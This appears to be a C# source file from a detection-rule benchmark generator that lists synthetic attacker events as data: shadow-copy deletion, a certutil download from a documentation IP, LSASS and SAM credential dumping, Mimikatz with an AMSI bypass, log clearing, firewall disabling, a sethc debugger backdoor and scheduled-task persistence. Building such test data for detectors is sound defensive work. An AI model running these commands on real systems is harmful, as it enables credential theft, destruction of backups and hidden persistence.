namespace RuleEngine.Benchmarks.Generation;

/// <summary>Something that an attacker does, which some rules look for: events of it are rare.</summary>
/// <param name="Code">The code of the event that shows it.</param>
/// <param name="Subject">The program, path, name or text that it is about.</param>
/// <param name="Arguments">The arguments of a program, or what else belongs to it.</param>
internal sealed record Suspicion(string Code, string Subject, params string[] Arguments)
{
    /// <summary>What there is.</summary>
    public static readonly IReadOnlyList<Suspicion> All =
    [
        new("1", "vssadmin.exe", "delete", "shadows", "/all", "/quiet"),
        new("1", "certutil.exe", "-urlcache", "-split", "-f", "http://203.0.113.7/a.txt", @"C:\Users\Public\a.exe"),
        new("1", "rundll32.exe", @"C:\Windows\System32\comsvcs.dll,", "MiniDump", "632", @"C:\Windows\Temp\l.dmp", "full"),
        new("1", "powershell.exe", "-nop", "-w", "hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        new("1", "bcdedit.exe", "/set", "{default}", "recoveryenabled", "no"),
        new("1", "wevtutil.exe", "cl", "Security"),
        new("1", "schtasks.exe", "/create", "/tn", "upd", "/tr", @"C:\Users\Public\run.vbs", "/sc", "onlogon"),
        new("1", "mshta.exe", "http://203.0.113.9/x.hta"),
        new("1", "nltest.exe", "/domain_trusts", "/all_trusts"),
        new("4688", "net.exe", "user", "helpdesk2", "P@ss-2026", "/add"),
        new("4688", "reg.exe", "save", @"HKLM\SAM", @"C:\Windows\Temp\s.hiv"),
        new("4688", "netsh.exe", "advfirewall", "set", "allprofiles", "state", "off"),
        new("10", "lsass.exe", "0x1010"),
        new("11", @"C:\Users\Public\mimilsa.log", ""),
        new("11", @"C:\Windows\System32\spool\drivers\x64\3\stage.dll", ""),
        new("13", @"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", @"C:\Windows\System32\cmd.exe"),
        new("13", @"HKLM\System\CurrentControlSet\Control\Lsa\Security Packages", "stage"),
        new("22", "c2.pastebin-relay.top", ""),
        new("4104", "Invoke-Mimikatz -DumpCreds; [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", ""),
        new("7045", @"%COMSPEC% /c echo stage > \\.\pipe\stage", ""),
    ];
}
